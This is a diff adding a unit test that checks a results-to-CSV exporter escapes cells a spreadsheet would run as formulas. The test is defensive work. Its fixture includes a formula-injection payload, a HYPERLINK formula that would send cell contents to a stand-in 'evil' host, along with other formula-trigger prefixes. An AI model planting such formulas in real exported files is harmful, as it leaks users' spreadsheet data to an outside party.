@@ -58,6 +58,20 @@ def test_csv_has_a_header_and_raw_numbers():
     assert out[0]["notes"] == "" and out[1]["notes"] == "too small" and out[0]["model"] == "demo"
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_and_numbers_stay_numbers():
+    # Issue 28: a run named =HYPERLINK(...) was written as a formula.
+    run = _run(3, ppl=-0.5, active=3e6, size=12e6, seconds=30, tags=["@tag", "ok"], notes="+1 better")
+    run.name = '=HYPERLINK("http://evil/?"&A1,"x")'
+    rows = [run_row(run)]
+    rows[0].message = "-2 steps"
+    rows[0].stage = "\tcmd"
+    [out] = list(csv.DictReader(io.StringIO(csv_text(rows))))
+    assert out["name"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
+    assert (out["notes"], out["tags"], out["message"], out["stage"]) == ("'+1 better", "'@tag,ok", "'-2 steps",
+                                                                         "'\tcmd")
+    assert out["perplexity"] == "-0.5" and float(out["size_bytes"]) == 12e6 and out["run"] == "3"
+
+
 def test_uploads_are_labelled_by_their_name_never_by_the_hash():
     source = f"/cache/uploads/{HASH}.zip"
     assert model_label(source, {source: "mixtral-tiny.zip"}) == "mixtral-tiny.zip"
